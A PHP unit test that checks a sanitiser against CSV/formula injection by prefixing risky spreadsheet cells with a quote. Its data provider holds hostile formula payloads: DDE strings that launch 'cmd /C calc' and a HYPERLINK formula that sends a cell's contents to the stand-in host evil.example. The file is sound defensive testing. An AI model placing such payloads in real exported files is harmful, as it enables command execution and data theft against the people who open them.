<?php

declare(strict_types=1);

namespace Kennel\Tests\Published;

use Kennel\Core\Foundation\Text\Harmless;
use PHPUnit\Framework\Attributes\DataProvider;
use PHPUnit\Framework\TestCase;

/** OWASP, "CSV Injection": cells that begin with =, +, -, @, tab or carriage return are taken for formulas (the list is from memory, the strings are common practice). */
final class FormulaTest extends TestCase
{
    #[DataProvider('formulas')]
    public function test_is_made_harmless(string $text): void
    {
        self::assertTrue(Harmless::isFormula($text));
        self::assertSame("'{$text}", Harmless::text($text));
        self::assertFalse(Harmless::isFormula(Harmless::text($text)), 'once is enough');
    }

    /** @return list<array{string}> */
    public static function formulas(): array
    {
        return array_map(static fn (string $text): array => [$text], [
            '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example?x="&A1,"Click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-1+1', "\t=1+1", "\r=1+1", "\n=1+1",
            '=', '-', '+4721930000', '＝1+1', '＋1', '－1', '＠SUM', '=DDE("cmd";"/C calc";"x")', '-2+3+cmd|\' /C calc\'!A0',
        ]);
    }

    #[DataProvider('harmless')]
    public function test_stays_as_it_is(string $text): void
    {
        self::assertSame($text, Harmless::text($text));
    }

    /** @return list<array{string}> */
    public static function harmless(): array
    {
        return array_map(static fn (string $text): array => [$text], ['', 'Ada', 'a=b', ' =1', '12', '-12', '-12.5', "O'Brien", '"=1"', 'нор']);
    }
}
